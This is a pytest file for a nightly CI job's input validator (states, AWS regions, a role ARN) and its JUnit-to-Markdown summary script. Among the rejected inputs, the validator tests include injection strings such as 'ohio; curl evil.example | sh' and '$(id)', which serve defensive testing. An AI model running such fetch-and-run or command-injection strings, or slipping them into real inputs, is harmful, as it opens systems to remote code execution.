"""The two scripts the nightly job runs: input validation (nightly_states) and the report (junit_summary)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from ci_helpers import ROOT, SCRIPTS, load_script

states = load_script("nightly_states")
summary = load_script("junit_summary")

ROLE = "arn:aws:iam::123456789012:role/github-nightly-acceptance-humangov"


# -- nightly_states ---------------------------------------------------------------------------------------
def test_state_list_is_the_apps() -> None:
    known = states.known_states()
    assert len(known) == 50 and "new-york" in known and "california" in known


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("", ["california", "texas"]),
        ("  ", ["california", "texas"]),
        ("ohio", ["ohio"]),
        ("California, new_york  texas", ["california", "new-york", "texas"]),
        ('["utah", "utah", "iowa"]', ["utah", "iowa"]),
    ],
)
def test_parse_states(raw: str, expected: list[str]) -> None:
    assert states.parse_states(raw, states.known_states()) == expected


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("atlantis", "unknown state 'atlantis'"),
        ("ohio; curl evil.example | sh", "unknown state"),
        ("$(id)", "unknown state"),
        ('["ohio", 3]', "strings only"),
        ("[ohio", "not a JSON list"),
        (" ".join(states.known_states()[:11]), "at most 10"),
    ],
)
def test_parse_states_rejects(raw: str, message: str) -> None:
    with pytest.raises(states.InputError, match=message.replace("(", r"\(").replace(")", r"\)")):
        states.parse_states(raw, states.known_states())


@pytest.mark.parametrize("region", ["us-east-1", "eu-west-3", "ap-southeast-2", "us-gov-west-1"])
def test_regions_accepted(region: str) -> None:
    assert states.parse_region(region) == region


@pytest.mark.parametrize("region", ["us-east", "US-EAST-1", "us-east-1; id", "x"])
def test_regions_rejected(region: str) -> None:
    with pytest.raises(states.InputError, match="not an AWS region"):
        states.parse_region(region)


def test_region_defaults() -> None:
    assert states.parse_region("") == "us-east-1"
    assert states.parse_region(" ", "eu-central-1") == "eu-central-1"


def test_main_writes_github_outputs(tmp_path: Path) -> None:
    out = tmp_path / "github_output"
    out.write_text("earlier=1\n", encoding="utf-8")
    env = {"STATES_INPUT": "", "DEFAULT_STATES": "ohio, utah", "REGION_INPUT": "eu-west-1", "ROLE_ARN": ROLE}
    assert states.main(["--require-role", "--github-output", str(out)], env) == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "earlier=1"  # appended, not overwritten: other steps' outputs survive
    assert json.loads(lines[1].removeprefix("states=")) == ["ohio", "utah"]
    assert lines[2] == "region=eu-west-1"


@pytest.mark.parametrize(
    ("role", "message"),
    [("", "HUMANGOV_NIGHTLY_ROLE_ARN is not set"), ("humangov", "not an IAM role ARN")],
)
def test_main_requires_the_role_variable(role: str, message: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert states.main(["--require-role"], {"ROLE_ARN": role}) == 2
    assert message in capsys.readouterr().err


def test_main_fails_on_bad_input_with_a_github_error_annotation(capsys: pytest.CaptureFixture[str]) -> None:
    assert states.main([], {"STATES_INPUT": "narnia"}) == 2
    assert capsys.readouterr().err.startswith("::error title=nightly inputs::")


def test_script_runs_standalone_with_the_system_python(tmp_path: Path) -> None:
    # The plan job runs it before anything is installed: standard library only, from any directory.
    result = subprocess.run(
        [sys.executable, "-I", str(SCRIPTS / "nightly_states.py")],
        capture_output=True, text=True, cwd=tmp_path, timeout=60, check=False,
        env={"STATES_INPUT": "maine", "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert 'states=["maine"]' in result.stdout


# -- junit_summary ----------------------------------------------------------------------------------------
JUNIT = """<?xml version="1.0" encoding="utf-8"?>
<testsuites><testsuite name="pytest" errors="1" failures="1" skipped="1" tests="4" time="70.5">
  <testcase classname="suites.live.test_stack" name="test_two_tasks_in_distinct_azs" time="12.25"/>
  <testcase classname="suites.live.test_stack" name="test_record_with_pdf[a|b]" time="3.5">
    <failure message="AssertionError: item missing in humangov-ohio-dynamodb">Traceback line 1
E   AssertionError: item missing in humangov-ohio-dynamodb</failure>
  </testcase>
  <testcase classname="suites.live.test_failover" name="test_failover" time="0.5">
    <skipped type="pytest.skip" message="no AWS credentials">skip detail</skipped>
  </testcase>
  <testcase classname="suites.live.test_stack" name="test_teardown" time="1.0">
    <error message="failed on teardown with &quot;DeployTimeout&quot;">long traceback</error>
  </testcase>
</testsuite></testsuites>
"""


def _report(tmp_path: Path, text: str = JUNIT, name: str = "live-ohio.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_read_report_outcomes(tmp_path: Path) -> None:
    report = summary.read_report(_report(tmp_path))
    outcomes = {c.name: c.outcome for c in report.cases}
    assert outcomes == {
        "test_two_tasks_in_distinct_azs": "passed",
        "test_record_with_pdf[a|b]": "failed",
        "test_failover": "skipped",
        "test_teardown": "error",
    }
    assert report.time == pytest.approx(17.25)
    assert not report.ok


def test_render_headline_table_and_details(tmp_path: Path) -> None:
    text = summary.render(summary.read_report(_report(tmp_path)), "Live acceptance: ohio (us-east-1)")
    lines = text.splitlines()
    assert lines[0] == "### Live acceptance: ohio (us-east-1)"
    assert lines[2] == "❌ **1 failed**, 1 errors, 1 skipped, 1 passed in 17.2 s"
    table = [line for line in lines if line.startswith("| ")]
    assert table[0] == "| Result | Test | Time (s) |"
    # Failures first, and a `|` in a test id cannot break the table's columns.
    assert table[1].startswith("| ❌ failed | `test_record_with_pdf[a\\|b]`")
    assert table[-1].startswith("| ✅ passed | `test_two_tasks_in_distinct_azs`")
    assert "<summary>❌ <code>test_record_with_pdf[a\\|b]</code>: AssertionError: item missing" in text
    assert "E   AssertionError: item missing in humangov-ohio-dynamodb" in text
    assert '<summary>💥 <code>test_teardown</code>: failed on teardown with "DeployTimeout"' in text


def test_all_passed_is_green(tmp_path: Path) -> None:
    xml = '<testsuite><testcase classname="c" name="t1" time="1"/><testcase name="t2" time="2"/></testsuite>'
    report = summary.read_report(_report(tmp_path, xml))
    assert report.ok
    assert summary.headline(report) == "✅ 2 passed in 3.0 s"


def test_skips_are_not_green(tmp_path: Path) -> None:
    xml = '<testsuite><testcase name="t" time="0"><skipped message="no credentials"/></testcase></testsuite>'
    report = summary.read_report(_report(tmp_path, xml))
    assert not report.ok
    assert summary.headline(report).startswith("⚠️ **1 skipped**")


def test_no_test_ran(tmp_path: Path) -> None:
    report = summary.read_report(_report(tmp_path, "<testsuites><testsuite tests='0'/></testsuites>"))
    assert not report.ok
    assert "no test ran" in summary.headline(report)


def test_missing_and_broken_reports_are_reported(tmp_path: Path) -> None:
    missing = summary.read_report(tmp_path / "absent.xml")
    assert "pytest ended before writing it" in summary.headline(missing)
    broken = summary.read_report(_report(tmp_path, "<testsuite><testcase", "broken.xml"))
    assert "not valid JUnit XML" in summary.headline(broken)
    assert not missing.ok and not broken.ok


def test_long_tracebacks_keep_their_tail(tmp_path: Path) -> None:
    body = "\n".join(f"line {i}" for i in range(100))
    case = f'<testcase name="t" time="1"><failure message="boom">{body}</failure></testcase>'
    xml = f"<testsuite>{case}</testsuite>"
    text = summary.render(summary.read_report(_report(tmp_path, xml)))
    assert "line 99" in text and "line 59" not in text
    assert "60 earlier lines cut" in text


def test_cli_appends_markdown_and_strict_exit(tmp_path: Path) -> None:
    path = _report(tmp_path)
    run = [sys.executable, "-I", str(SCRIPTS / "junit_summary.py"), "--title", "ohio", str(path)]
    result = subprocess.run(run, capture_output=True, text=True, cwd=ROOT, timeout=60, check=False)
    assert result.returncode == 0  # the summary never hides the live step's own failure
    assert result.stdout.startswith("### ohio\n")
    strict = subprocess.run([*run, "--strict"], capture_output=True, text=True, timeout=60, check=False)
    assert strict.returncode == 1
